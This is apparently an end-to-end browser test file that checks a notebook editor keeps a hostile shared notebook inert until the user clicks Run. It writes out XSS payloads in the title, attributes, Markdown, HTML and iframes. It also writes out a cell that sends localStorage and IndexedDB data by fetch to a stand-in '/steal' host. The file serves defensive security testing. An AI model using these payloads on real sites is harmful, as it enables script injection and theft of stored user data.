import {mkdtempSync, writeFileSync} from "node:fs";
import {createServer, type Server} from "node:http";
import type {AddressInfo} from "node:net";
import {tmpdir} from "node:os";
import path from "node:path";
import type {BrowserContext, Page} from "playwright-core";
import {afterAll, beforeAll, describe, expect, inject, it} from "vitest";
import {encodeShareFragment} from "../../src/share/index.ts";
import {cellStatus, openBrowser, record} from "./browser.ts";

// A listener on another local port stands for "somewhere else": it records every contact.
let listener: Server;
let elsewhere: string;
const contacts: string[] = [];
let browser: BrowserContext;

beforeAll(async () => {
  listener = createServer((request, response) => {
    contacts.push(request.url ?? "");
    response.writeHead(200, {"access-control-allow-origin": "*"}).end("x");
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  elsewhere = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  browser = await openBrowser();
});
afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => listener?.close(resolve));
});

/**
 * A notebook that tries everything: script through its title, ids, attributes, Markdown and
 * HTML; cells that read this browser's storage and send it away. Each call gives another text
 * (a reader who ran one is not taken to trust the next).
 */
let made = 0;
function hostileNotebook(): string {
  return `<!doctype html>
<notebook theme="air" onload="window.__pwned='root'">
  <title>Evil ${++made} &lt;/title&gt;&lt;script&gt;window.__pwned = "title"&lt;/script&gt;</title>
  <script id="1&quot; onload=&quot;window.__pwned='id'" type="text/markdown" data-x="&quot;><img src=x onerror=window.__pwned='attr'>">
    # Quarterly figures

    <img src="${elsewhere}/md-image" onerror="window.__pwned = 'md-onerror'">
    <script>window.__pwned = "md-script"</script>

    [read more](javascript:window.__pwned='md-link')
  </script>
  <script id="2" type="text/html">
    <div class="note" onmouseover="window.__pwned = 'html-handler'">Hover me</div>
    <iframe srcdoc="<script>parent.__pwned = 'iframe'<\\/script>"></iframe>
    <form action="${elsewhere}/form" method="post"><button>Send</button></form>
    <img src="${elsewhere}/html-image">
    <a href="javascript:window.__pwned='html-link'">link</a>
  </script>
  <script id="3" type="module">
    window.__ran = true;
    const drafts = await new Promise((resolve) => {
      const open = indexedDB.open("mapt-drafts");
      open.onsuccess = () => resolve(open.result.name);
      open.onerror = () => resolve("none");
    });
    fetch("${elsewhere}/steal?drafts=" + drafts + "&local=" + encodeURIComponent(JSON.stringify({...localStorage}))).catch(() => {});
  </script>
  <script id="4" type="application/sql">
    SELECT * FROM read_csv('${elsewhere}/duckdb.csv')
  </script>
</notebook>
`;
}

/** Nothing of the notebook ran, nothing was contacted, and its HTML is inert. */
async function expectInert(page: Page, errors: string[], dialogs: string[]): Promise<void> {
  await page.getByRole("button", {name: "Run this notebook"}).waitFor();
  await page.waitForLoadState("networkidle");
  expect(await page.evaluate(() => [(window as unknown as {__pwned?: string}).__pwned, (window as unknown as {__ran?: boolean}).__ran])).toEqual([undefined, undefined]);
  expect(contacts).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(await page.title()).toMatch(/^Evil/);
  expect(await page.locator("#mapt-notebook script, #mapt-notebook iframe, #mapt-notebook form, #mapt-notebook object").count()).toBe(0);
  const handlers = await page.$$eval("#mapt-notebook *", (elements) =>
    elements.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name) || /javascript:/i.test(a.value)).map((a) => `${e.tagName} ${a.name}`))
  );
  expect(handlers).toEqual([]);
  // The text is there to read: headings, the HTML's words, and the code of every cell that would run.
  expect(await page.locator("#mapt-notebook h1").innerText()).toBe("Quarterly figures");
  expect(await page.locator("#mapt-notebook").innerText()).toContain("Hover me");
  expect(await page.locator("#cell-3 .mapt-cell-source").innerText()).toContain("/steal?drafts=");
  expect(await cellStatus(page, 3)).toBe("idle");
  expect(await page.locator(".mapt-trust").innerText()).toContain(`${elsewhere}/steal`);
  expect(errors).toEqual([]);
}

/** After Run, the notebook's cells do run. */
async function expectRunsAfterRun(page: Page): Promise<void> {
  await page.getByRole("button", {name: "Run this notebook"}).click();
  await expect.poll(() => page.evaluate(() => (window as unknown as {__ran?: boolean}).__ran), {timeout: 30_000}).toBe(true);
}

async function watched(): Promise<{page: Page; errors: string[]; dialogs: string[]}> {
  const page = await browser.newPage();
  const {errors} = record(page);
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => (dialogs.push(dialog.message()), void dialog.dismiss()));
  return {page, errors, dialogs};
}

describe("a hostile notebook", () => {
  it("arriving by link runs nothing, contacts nothing and shows inert HTML until Run", async () => {
    contacts.length = 0;
    const {page, errors, dialogs} = await watched();
    await page.goto(`${inject("siteUrl")}editor.html#${await encodeShareFragment({notebook: hostileNotebook(), inputs: {}, files: []})}`);
    await expectInert(page, errors, dialogs);
    await expectRunsAfterRun(page);
  });

  it("arriving as a chosen file runs nothing, contacts nothing and shows inert HTML until Run", async () => {
    contacts.length = 0;
    const file = path.join(mkdtempSync(path.join(tmpdir(), "mapt-hostile-")), "figures.html");
    writeFileSync(file, hostileNotebook());
    const {page, errors, dialogs} = await watched();
    await page.goto(inject("siteUrl"));
    await page.locator("#mapt-open-file").setInputFiles(file);
    await page.waitForURL(/editor\.html\?draft=/);
    await expectInert(page, errors, dialogs);
    await expectRunsAfterRun(page);
  });

  it("arriving by drop runs nothing, contacts nothing and shows inert HTML until Run", async () => {
    contacts.length = 0;
    const {page, errors, dialogs} = await watched();
    await page.goto(inject("siteUrl"));
    await page.evaluate((text) => {
      const data = new DataTransfer();
      data.items.add(new File([text], "figures.html", {type: "text/html"}));
      document.body.dispatchEvent(new DragEvent("drop", {dataTransfer: data, bubbles: true, cancelable: true}));
    }, hostileNotebook());
    await page.waitForURL(/editor\.html\?draft=/);
    await expectInert(page, errors, dialogs);
    await expectRunsAfterRun(page);
  });
});
